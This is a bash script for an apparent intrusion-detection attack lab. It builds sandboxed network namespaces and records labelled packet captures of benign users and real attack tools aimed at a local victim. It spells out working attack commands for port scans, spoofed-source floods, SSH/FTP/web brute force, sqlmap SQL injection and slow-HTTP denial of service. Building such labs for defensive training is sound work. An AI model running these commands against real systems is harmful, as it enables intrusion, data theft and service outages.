#!/usr/bin/env bash
# The flowguard attack lab (docs/lab.md): records labelled captures of benign users and real attack
# tools inside network namespaces.
#
#   tests/lab/lab.sh list
#   tests/lab/lab.sh record SCENARIO [--set train|eval] [--seed N] [--out DIR] [--duration S]
#   tests/lab/lab.sh record-all [--out DIR] [--train-seed N] [--eval-seed N] [--duration S]
#
# Output: DIR/SET/SCENARIO.pcap and DIR/SET/SCENARIO.truth.json (default DIR: $FLOWGUARD_LAB_DIR or
# /var/tmp/flowguard-lab). Needs root and the lab packages (deploy/install-deps.sh --with-lab-tools).
#
# Safety: every lab interface, the bridge included, lives in a namespace this script creates
# (fg-lab-*); nothing is added to the root namespace. The victim's default route points at the sink
# gateway namespace, which drops (and counts) every packet not addressed to the lab prefixes, so
# backscatter from spoofed-source floods ends there. Every process runs under `timeout`, is ended by PID
# and every namespace is deleted on exit.
set -euo pipefail

HERE="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
REPO="$(cd "$HERE/../.." && pwd)"
SCENARIOS=(portscan flood bruteforce web slowdos httpflood)
PREFIX=fg-lab
LAB4=10.200.1            # lab-only IPv4 /24 (the demo uses 10.200.0.0/24)
LAB6=fd00:200:1          # lab-only IPv6 ULA /64
HOSTS=(victim gw cli1 cli2 cli3 atk1 atk2)
declare -A HOSTNUM=([victim]=10 [gw]=1 [cli1]=21 [cli2]=22 [cli3]=23 [atk1]=66 [atk2]=67)
VICTIM=$LAB4.10
VICTIM6=$LAB6::10
LAB_PACKAGES=(iproute2 ethtool nftables tcpdump python3 curl openssh-client openssh-server vsftpd nginx
  dnsmasq-base iperf3 redis-server redis-tools rsync iputils-ping nmap hping3 patator hydra slowhttptest
  apache2-utils sqlmap)

die() { echo "lab: $*" >&2; exit 1; }
now() { date -u +%Y-%m-%dT%H:%M:%S.%6NZ; }

usage() { sed -n '2,9p' "$0" | sed 's/^# \{0,1\}//'; exit "${1:-0}"; }

# Prints the missing requirement (empty when the lab can run); tests/lab/e2e.sh uses it to SKIP.
missing_requirements() {
  [ "$(id -u)" -eq 0 ] || { echo "not root (network namespaces, raw sockets)"; return; }
  local tool
  for tool in ip ethtool nft tcpdump python3 curl ssh ssh-keygen scp sftp /usr/sbin/sshd vsftpd nginx dnsmasq \
    iperf3 redis-server redis-cli rsync ping nmap hping3 patator hydra slowhttptest ab sqlmap timeout; do
    command -v "$tool" >/dev/null || { echo "$tool missing (deploy/install-deps.sh --with-lab-tools)"; return; }
  done
}

# ------------------------------------------------------------------ scenarios
# Each scenario defines two attacks: ATK_HOST, ATK_LABEL (the model's CIC-IDS2017 vocabulary),
# ATK_TOOL, ATK_MODE, ATK_AT (seconds after the capture starts), ATK_TIMEOUT and ATK_CMD (run inside
# the attacker's namespace with `bash -c`; recorded verbatim). ATK_SPOOFED=1: the tool forges random
# source addresses, so the attack is identified by its window and non-lab sources (labels.py).
# Where a class has two tools or modes, `eval` uses at least one that `train` never does.
define_attacks() {
  local set=$1 scenario=$2 v=$VICTIM
  ATK_HOST=(atk1 atk2); ATK_SPOOFED=(0 0)
  # Start offsets scale with the duration (jittered by the seed); each attack ends 4 s before the capture.
  local a1=$(( DURATION * 12 / 100 + SEED % 3 )) a2=$(( DURATION * 45 / 100 + SEED % 4 ))
  ATK_AT=($a1 $a2)
  ATK_TIMEOUT=($(( DURATION - a1 - 4 < 35 ? DURATION - a1 - 4 : 35 )) $(( DURATION - a2 - 4 < 35 ? DURATION - a2 - 4 : 35 )))
  case "$set/$scenario" in
    train/portscan)
      ATK_LABEL=(Portscan Portscan); ATK_TOOL=(nmap nmap); ATK_MODE=("TCP SYN -T4" "UDP -T4")
      ATK_CMD=("nmap -sS -n -T4 --top-ports 1000 $v"
               "nmap -sU -n -T4 --top-ports 100 --max-retries 1 $v") ;;
    eval/portscan)
      ATK_LABEL=(Portscan Portscan); ATK_TOOL=(nmap nmap); ATK_MODE=("TCP connect -T4" "TCP SYN slow -T2")
      ATK_CMD=("nmap -sT -n -T4 --top-ports 1000 $v"
               "nmap -sS -n -T2 --top-ports 60 $v") ;;
    train/flood)
      ATK_LABEL=(DDoS DDoS); ATK_TOOL=(hping3 hping3); ATK_MODE=("SYN flood, real source" "UDP flood")
      ATK_CMD=("hping3 -S -p 80 -i u500 -c 12000 $v"
               "hping3 --udp -p 53 -d 120 -i u500 -c 12000 $v") ;;
    eval/flood)
      ATK_LABEL=(DDoS DDoS); ATK_TOOL=(hping3 hping3); ATK_MODE=("SYN flood, spoofed random sources" "ICMP flood")
      ATK_SPOOFED=(1 0)
      ATK_CMD=("hping3 -S -p 80 --rand-source -i u500 -c 12000 $v"
               "hping3 --icmp -d 200 -i u500 -c 12000 $v") ;;
    train/bruteforce)
      ATK_LABEL=(SSH-Patator FTP-Patator); ATK_TOOL=(patator patator); ATK_MODE=("ssh_login" "ftp_login")
      ATK_CMD=("patator ssh_login host=$v user=FILE0 password=FILE1 0=$WORK/users.txt 1=$WORK/passwords.txt --threads=4 --max-retries=0 -x ignore:mesg='Authentication failed.'"
               "patator ftp_login host=$v user=FILE0 password=FILE1 0=$WORK/users.txt 1=$WORK/passwords.txt --threads=4 --max-retries=0 -x ignore:mesg='Login incorrect.'") ;;
    eval/bruteforce)
      ATK_LABEL=(SSH-Patator FTP-Patator); ATK_TOOL=(hydra hydra); ATK_MODE=("ssh" "ftp")
      # -w 3: when sshd/vsftpd drop a connection after their maximum of failed tries, hydra otherwise
      # waits its default 32 s before reconnecting (the attack would be almost idle).
      ATK_CMD=("cd $WORK && hydra -I -t 4 -w 3 -L $WORK/users.txt -P $WORK/passwords.txt ssh://$v"
               "cd $WORK && hydra -I -t 4 -w 3 -L $WORK/users.txt -P $WORK/passwords.txt ftp://$v") ;;
    train/web)
      ATK_LABEL=("Web Attack - Brute Force" "Web Attack - SQL Injection"); ATK_TOOL=(hydra sqlmap)
      ATK_MODE=("http-post-form" "boolean-blind (--technique=B)")
      ATK_CMD=("cd $WORK && hydra -I -t 4 -L $WORK/users.txt -P $WORK/passwords.txt $v http-post-form '/app/login:user=^USER^&pass=^PASS^:F=Login failed'"
               "sqlmap -u 'http://$v/app/item?id=1' --batch --technique=B --dbms=SQLite --dump --threads=2 --flush-session --output-dir=$WORK/sqlmap") ;;
    eval/web)
      ATK_LABEL=("Web Attack - Brute Force" "Web Attack - SQL Injection"); ATK_TOOL=(patator sqlmap)
      ATK_MODE=("http_fuzz POST" "UNION + error (--technique=UE)")
      # resolve=: patator 0.9 passes an empty CURLOPT_RESOLVE to Debian 12's libcurl otherwise (every try fails)
      ATK_CMD=("patator http_fuzz url=http://$v/app/login resolve=$v:$v method=POST body='user=FILE0&pass=FILE1' 0=$WORK/users.txt 1=$WORK/passwords.txt --threads=4 --max-retries=0 -x ignore:fgrep='Login failed'"
               "sqlmap -u 'http://$v/app/item?id=1' --batch --technique=UE --dbms=SQLite --dump --threads=2 --flush-session --output-dir=$WORK/sqlmap") ;;
    train/slowdos)
      ATK_LABEL=("DoS Slowloris" "DoS Slowhttptest"); ATK_TOOL=(slowhttptest slowhttptest)
      ATK_MODE=("slow headers -H" "slow body -B")
      ATK_CMD=("slowhttptest -H -c 300 -r 100 -i 10 -x 24 -p 3 -l 30 -u http://$v/index.html"
               "slowhttptest -B -c 300 -r 100 -i 10 -x 24 -p 3 -s 8192 -l 30 -t POST -u http://$v/app/login") ;;
    eval/slowdos)
      ATK_LABEL=("DoS Slowloris" "DoS Slowhttptest"); ATK_TOOL=(slowhttptest slowhttptest)
      ATK_MODE=("slow headers -H, slower" "slow read -X")
      ATK_CMD=("slowhttptest -H -c 200 -r 50 -i 15 -x 10 -p 3 -l 30 -u http://$v/"
               "slowhttptest -X -c 200 -r 50 -w 10 -y 20 -n 5 -z 32 -k 3 -p 3 -l 30 -u http://$v/large-4m.bin") ;;
    train/httpflood)
      ATK_LABEL=("DoS Hulk" "DoS Hulk"); ATK_TOOL=(hulk.py ab)
      ATK_MODE=("HULK-like, new connection per request" "ab, new connection per request")
      ATK_CMD=("python3 $HERE/hulk.py $v 80 --requests 6000 --threads 8 --seconds 25 --seed $SEED"
               "ab -n 6000 -c 20 -s 5 http://$v/index.html") ;;
    eval/httpflood)
      ATK_LABEL=("DoS Hulk" "DoS Hulk"); ATK_TOOL=(ab hulk.py)
      ATK_MODE=("ab keep-alive -k" "HULK-like, new connection per request")
      ATK_CMD=("ab -k -n 20000 -c 10 -s 5 http://$v/index.html"
               "python3 $HERE/hulk.py $v 80 --requests 6000 --threads 8 --seconds 25 --seed $SEED") ;;
    *) die "unknown scenario $scenario or set $set (scenarios: ${SCENARIOS[*]}; sets: train eval)" ;;
  esac
}

# ------------------------------------------------------------------ one scenario
record() {
  local scenario=$1
  [ -z "$(missing_requirements)" ] || die "$(missing_requirements)"
  # One lab at a time: the namespace names are fixed (a second run would delete the first one's).
  exec 9>/run/lock/fg-lab.lock
  flock -w 900 9 || die "another lab recording still holds /run/lock/fg-lab.lock"
  OUT="$OUT_ROOT/$SET"
  mkdir -p "$OUT"
  WORK="$(mktemp -d /tmp/fg-lab.XXXXXX)"
  chmod 755 "$WORK"
  define_attacks "$SET" "$scenario"
  PIDS=()
  MADE_RUN_SSHD=0
  trap cleanup EXIT INT TERM
  local t0; t0=$(date +%s.%N)
  echo "lab: $SET/$scenario seed=$SEED duration=${DURATION}s work=$WORK"

  make_topology
  make_content
  start_services
  wait_services

  local pcap="$WORK/$scenario.pcap"
  spawn victim 0 timeout $((DURATION + 60)) tcpdump -i eth0 -s 0 -U -Z root -w "$pcap" 2>"$WORK/tcpdump.log"
  TCPDUMP_PID=$!
  sleep 1
  CAPTURE_START=$(now)
  local start_s; start_s=$(date +%s.%N)

  local benign_pids=() i
  for i in 1 2 3; do
    spawn "cli$i" 0 timeout $((DURATION + 30)) python3 "$HERE/benign.py" --name "cli$i" --seed $((SEED * 10 + i)) \
      --duration "$DURATION" --victim "$VICTIM" --victim6 "$VICTIM6" --work "$WORK" --iperf-port $((5200 + i)) \
      >"$WORK/benign-cli$i.log" 2>&1
    benign_pids+=($!)
  done

  # Attacks: each one starts at its offset, runs under timeout and is waited for by PID.
  : >"$WORK/attacks.tsv"
  local atk_pids=()
  for i in 0 1; do
    (
      sleep "${ATK_AT[$i]}"
      s=$(now)
      rc=0
      timeout --kill-after=5 "${ATK_TIMEOUT[$i]}" ip netns exec "$PREFIX-${ATK_HOST[$i]}" bash -c "${ATK_CMD[$i]}" \
        >"$WORK/attack$i.log" 2>&1 || rc=$?
      printf '%s\t%s\t%s\t%s\n' "$i" "$s" "$(now)" "$rc" >>"$WORK/attacks.tsv"
    ) &
    atk_pids+=($!); PIDS+=($!)
  done
  for i in "${atk_pids[@]}"; do wait "$i" || true; done
  for i in "${benign_pids[@]}"; do wait "$i" || true; done
  sleep 2
  CAPTURE_END=$(now)
  kill -INT "$TCPDUMP_PID" 2>/dev/null || true
  wait "$TCPDUMP_PID" || true

  local dropped
  dropped=$(ip netns exec "$PREFIX-gw" nft list counter inet fg_sink backscatter 2>/dev/null |
            sed -n 's/.*packets \([0-9]*\).*/\1/p' | head -1)
  cp "$pcap" "$OUT/$scenario.pcap"
  write_truth "$scenario" "${dropped:-0}" "$(python3 -c "import time; print(round(time.time() - $t0, 1))")" \
    >"$OUT/$scenario.truth.json"
  echo "lab: wrote $OUT/$scenario.pcap ($(stat -c %s "$OUT/$scenario.pcap") bytes) and $scenario.truth.json"
}

spawn() {  # spawn HOST DELAY CMD...: runs CMD in the host's namespace in the background, PID in $!
  local host=$1; shift 2
  ip netns exec "$PREFIX-$host" "$@" &
  PIDS+=($!)
}

cleanup() {
  local pid
  set +e
  for pid in "${PIDS[@]}"; do kill "$pid" 2>/dev/null; done
  for pid in "${PIDS[@]}"; do wait "$pid" 2>/dev/null; done
  # Daemons that fork (none should, all run in the foreground) are ended by their pid files.
  for f in "$WORK"/*.pid; do [ -f "$f" ] && kill "$(cat "$f")" 2>/dev/null; done
  for h in "${HOSTS[@]}" br; do ip netns del "$PREFIX-$h" 2>/dev/null; done
  [ "$MADE_RUN_SSHD" = 1 ] && rmdir /run/sshd 2>/dev/null
  if [ -n "${FLOWGUARD_LAB_KEEP:-}" ]; then echo "lab: work files kept in $WORK"; else rm -rf "$WORK"; fi
}

in_ns() { local h=$1; shift; ip netns exec "$PREFIX-$h" "$@"; }

make_topology() {
  local h
  for h in "${HOSTS[@]}" br; do
    ip netns del "$PREFIX-$h" 2>/dev/null || true
    ip netns add "$PREFIX-$h"
    in_ns "$h" ip link set lo up
  done
  # The bridge lives in its own namespace: no lab interface exists in the root namespace.
  in_ns br ip link add br0 type bridge stp_state 0
  in_ns br ip link set br0 up
  for h in "${HOSTS[@]}"; do
    ip link add eth0 netns "$PREFIX-$h" type veth peer name "v-$h" netns "$PREFIX-br"
    in_ns br ip link set "v-$h" master br0 up
    in_ns "$h" ip addr add "$LAB4.${HOSTNUM[$h]}/24" dev eth0
    in_ns "$h" ip addr add "$LAB6::${HOSTNUM[$h]}/64" dev eth0 nodad
    in_ns "$h" ip link set eth0 up
    # Offloads off on both ends: the capture shows wire-sized frames, not 64 KB GSO/GRO aggregates.
    in_ns "$h" ethtool -K eth0 gro off gso off tso off >/dev/null 2>&1 || true
    in_ns br ethtool -K "v-$h" gro off gso off tso off >/dev/null 2>&1 || true
    in_ns "$h" ip link set eth0 gso_max_segs 1 gso_max_size 1514 2>/dev/null || true
    [ "$h" = gw ] || in_ns "$h" ip route add default via "$LAB4.1"
    [ "$h" = gw ] || in_ns "$h" ip -6 route add default via "$LAB6::1"
  done
  # Sink gateway: does not forward; counts and drops everything not addressed to the lab prefixes.
  in_ns gw sysctl -qw net.ipv4.ip_forward=0 net.ipv6.conf.all.forwarding=0
  in_ns gw nft -f - <<EOF
table inet fg_sink {
  counter backscatter { }
  chain pre {
    type filter hook prerouting priority -300; policy accept;
    ip daddr != $LAB4.0/24 counter name backscatter drop
    ip6 daddr != { $LAB6::/64, fe80::/10, ff00::/8 } counter name backscatter drop
  }
  chain no_forward { type filter hook forward priority 0; policy drop; }
}
EOF
}

make_content() {
  mkdir -p "$WORK/www/img" "$WORK/ftp/pub" "$WORK/upload" "$WORK/empty" "$WORK/tmp" "$WORK/keys"
  local filler="flowguard lab content, deterministic filler for page loads and downloads"
  mk() { head -c "$2" < <(yes "$filler") >"$1"; }
  mk "$WORK/www/index.html" 7000
  local i
  for i in $(seq 1 12); do mk "$WORK/www/page$i.html" $((2000 + i * 700)); done
  for i in $(seq 1 16); do mk "$WORK/www/img/pic$i.jpg" $((3000 + i * 2500)); done
  mk "$WORK/www/style.css" 4200
  mk "$WORK/www/app.js" 21000
  head -c $((1024 * 1024)) /dev/urandom >"$WORK/www/large-1m.bin"
  head -c $((4 * 1024 * 1024)) /dev/urandom >"$WORK/www/large-4m.bin"
  cp "$WORK/www/large-1m.bin" "$WORK/ftp/pub/release.tar.gz"
  mk "$WORK/ftp/pub/README.txt" 1800
  chmod -R a+rX "$WORK/www" "$WORK/ftp"
  # Wordlists for the brute-force tools: real user names and passwords that never match.
  printf '%s\n' admin root test user guest oracle ftpuser webmaster >"$WORK/users.txt"
  python3 - "$SEED" >"$WORK/passwords.txt" <<'EOF'
import random, sys
r = random.Random(int(sys.argv[1]))
base = ["123456", "password", "qwerty", "letmein", "dragon", "monkey", "shadow", "master", "sunshine",
        "princess", "football", "welcome", "admin", "login", "abc123", "passw0rd", "trustno1", "iloveyou"]
words = base + [r.choice(base) + str(r.randrange(100)) for _ in range(80)]
print("\n".join(w + "-nomatch" if w == "admin" else w for w in words))
EOF
  ssh-keygen -q -t ed25519 -N '' -f "$WORK/keys/host_ed25519"
  ssh-keygen -q -t ed25519 -N '' -f "$WORK/keys/user"
  ssh-keygen -q -t ed25519 -N '' -f "$WORK/keys/wrong"
  cp "$WORK/keys/user.pub" "$WORK/keys/authorized_keys"
  chmod 755 "$WORK/keys"; chmod 644 "$WORK/keys/authorized_keys"
  cat >"$WORK/hosts" <<EOF
$VICTIM www.lab.test mail.lab.test files.lab.test
$LAB4.21 alice.lab.test
$LAB4.22 bob.lab.test
$LAB4.23 carol.lab.test
$VICTIM6 www.lab.test
EOF
}

start_services() {
  local w=$WORK
  # No service may resolve names: the namespaces have no resolver, and a reverse lookup would send
  # packets to the host's DNS server address (the sink drops them, but they would pollute the capture).
  cat >"$w/nginx.conf" <<EOF
worker_processes 1;
user nobody nogroup;
pid $w/nginx.pid;
error_log $w/nginx-error.log warn;
worker_rlimit_nofile 8192;
events { worker_connections 4096; }
http {
  access_log off;
  client_body_temp_path $w/tmp/body; proxy_temp_path $w/tmp/proxy; fastcgi_temp_path $w/tmp/fcgi;
  uwsgi_temp_path $w/tmp/uwsgi; scgi_temp_path $w/tmp/scgi;
  types { text/html html; text/css css; application/javascript js; image/jpeg jpg; application/octet-stream bin; }
  keepalive_timeout 65;
  server {
    listen $VICTIM:80 backlog=4096;
    listen [$VICTIM6]:80;
    root $w/www;
    location /app/ { proxy_pass http://127.0.0.1:8081; proxy_http_version 1.1; proxy_set_header Connection ""; }
  }
}
EOF
  cat >"$w/sshd_config" <<EOF
Port 22
ListenAddress $VICTIM
ListenAddress $VICTIM6
HostKey $w/keys/host_ed25519
PidFile $w/sshd.pid
AuthorizedKeysFile $w/keys/authorized_keys
PermitRootLogin prohibit-password
PasswordAuthentication yes
KbdInteractiveAuthentication no
UsePAM no
MaxStartups 60:30:120
MaxAuthTries 6
Subsystem sftp internal-sftp
LogLevel ERROR
UseDNS no
EOF
  cat >"$w/vsftpd.conf" <<EOF
listen=YES
listen_ipv6=NO
listen_address=$VICTIM
background=NO
anonymous_enable=YES
no_anon_password=YES
anon_root=$w/ftp
local_enable=YES
write_enable=NO
pam_service_name=vsftpd
secure_chroot_dir=$w/empty
seccomp_sandbox=NO
xferlog_enable=NO
vsftpd_log_file=$w/vsftpd.log
max_clients=300
max_per_ip=100
pasv_min_port=30000
pasv_max_port=30999
EOF
  cat >"$w/dnsmasq.conf" <<EOF
port=53
listen-address=$VICTIM
bind-interfaces
no-resolv
no-hosts
no-poll
addn-hosts=$w/hosts
local=/lab.test/
domain-needed
pid-file=$w/dnsmasq.pid
user=root
group=root
EOF
  cat >"$w/rsyncd.conf" <<EOF
pid file = $w/rsyncd.pid
address = $VICTIM
port = 873
use chroot = no
reverse lookup = no
[pub]
  path = $w/www
  read only = yes
EOF
  [ -d /run/sshd ] || { mkdir -p /run/sshd; chmod 755 /run/sshd; MADE_RUN_SSHD=1; }
  local life=$((DURATION + 90))
  spawn victim 0 timeout $life python3 "$HERE/vulnapp.py" 127.0.0.1 8081 "$w/app.db"
  spawn victim 0 timeout $life nginx -e "$w/nginx-error.log" -c "$w/nginx.conf" -g 'daemon off;'
  spawn victim 0 timeout $life /usr/sbin/sshd -D -e -f "$w/sshd_config" 2>"$w/sshd.log"
  spawn victim 0 timeout $life vsftpd "$w/vsftpd.conf"
  spawn victim 0 timeout $life dnsmasq --keep-in-foreground --conf-file="$w/dnsmasq.conf"
  spawn victim 0 timeout $life rsync --daemon --no-detach --config="$w/rsyncd.conf"
  spawn victim 0 timeout $life redis-server --bind "$VICTIM" --port 6379 --protected-mode no --save '' \
    --appendonly no --dir "$w" --logfile "$w/redis.log" --daemonize no --requirepass lab-cache-pw
  local p
  for p in 5201 5202 5203; do spawn victim 0 timeout $life iperf3 -s -B "$VICTIM" -p $p >"$w/iperf3-$p.log" 2>&1; done
}

wait_services() {
  local port ok
  for port in 80 22 21 53 873 6379; do
    ok=0
    for _ in $(seq 60); do
      if in_ns cli1 timeout 1 bash -c "exec 3<>/dev/tcp/$VICTIM/$port" 2>/dev/null; then ok=1; break; fi
      sleep 0.2
    done
    [ $ok = 1 ] || die "service on port $port did not start (see $WORK)"
  done
  ok=0
  for _ in $(seq 50); do
    in_ns cli1 curl -s -o /dev/null --max-time 2 -f "http://$VICTIM/app/" && { ok=1; break; }
    sleep 0.2
  done
  [ $ok = 1 ] || die "vulnerable app did not start (see $WORK)"
}

write_truth() {
  local scenario=$1 dropped=$2 wall=$3
  local i
  for i in 0 1; do
    printf '%s\t%s\t%s\t%s\t%s\t%s\n' "$i" "$LAB4.${HOSTNUM[${ATK_HOST[$i]}]}" "${ATK_LABEL[$i]}" "${ATK_TOOL[$i]}" \
      "${ATK_MODE[$i]}" "${ATK_SPOOFED[$i]}" >>"$WORK/attackers.tsv"
    printf '%s\n' "${ATK_CMD[$i]}" >"$WORK/cmd$i.txt"
  done
  dpkg-query -W -f='${Package}\t${Version}\n' "${LAB_PACKAGES[@]}" >"$WORK/versions.tsv" 2>/dev/null || true
  python3 "$HERE/labels.py" write-truth --work "$WORK" --scenario "$scenario" --set "$SET" --seed "$SEED" \
    --duration "$DURATION" --start "$CAPTURE_START" --end "$CAPTURE_END" --victim "$VICTIM" --victim6 "$VICTIM6" \
    --lab4 "$LAB4.0/24" --lab6 "$LAB6::/64" --backscatter-dropped "$dropped" --wall-seconds "$wall" \
    --benign "$LAB4.21=alice:web,ssh,ftp,dns,ping,iperf3,redis,rsync,idle" \
    --benign "$LAB4.22=bob:web,ssh,ftp,dns,ping,iperf3,redis,rsync,idle" \
    --benign "$LAB4.23=carol:web,ssh,ftp,dns,ping,iperf3,redis,rsync,idle"
}

# ------------------------------------------------------------------ command line
[ $# -ge 1 ] || usage 2
CMD=$1; shift
SET=train; SEED=""; OUT_ROOT=${FLOWGUARD_LAB_DIR:-/var/tmp/flowguard-lab}; DURATION=75
TRAIN_SEED=1001; EVAL_SEED=2002; SCENARIO=""
while [ $# -gt 0 ]; do
  case "$1" in
    --set) SET=$2; shift 2 ;;
    --seed) SEED=$2; shift 2 ;;
    --out) OUT_ROOT=$2; shift 2 ;;
    --duration) DURATION=$2; shift 2 ;;
    --train-seed) TRAIN_SEED=$2; shift 2 ;;
    --eval-seed) EVAL_SEED=$2; shift 2 ;;
    -h|--help) usage 0 ;;
    -*) die "unknown option $1" ;;
    *) SCENARIO=$1; shift ;;
  esac
done
case "$SET" in train) : "${SEED:=$TRAIN_SEED}" ;; eval) : "${SEED:=$EVAL_SEED}" ;; *) die "--set is train or eval" ;; esac
[[ "$DURATION" =~ ^[0-9]+$ ]] && (( DURATION >= 20 && DURATION <= 600 )) || die "--duration is 20..600 seconds"

case "$CMD" in
  list) printf '%s\n' "${SCENARIOS[@]}" ;;
  check) m=$(missing_requirements); [ -z "$m" ] || { echo "$m"; exit 77; }; echo "lab: requirements present" ;;
  record) [ -n "$SCENARIO" ] || die "record needs a scenario (${SCENARIOS[*]})"; record "$SCENARIO" ;;
  record-all)
    start=$(date +%s); failed=()
    for s in train eval; do
      seed=$TRAIN_SEED; [ $s = eval ] && seed=$EVAL_SEED
      for sc in "${SCENARIOS[@]}"; do
        "$0" record "$sc" --set $s --seed "$seed" --out "$OUT_ROOT" --duration "$DURATION" || failed+=("$s/$sc")
      done
    done
    echo "lab: recorded train and eval (${#SCENARIOS[@]} scenarios each) into $OUT_ROOT in $(( $(date +%s) - start )) s"
    [ ${#failed[@]} -eq 0 ] || die "failed: ${failed[*]} (rerun them with: record SCENARIO --set SET)" ;;
  *) usage 2 ;;
esac
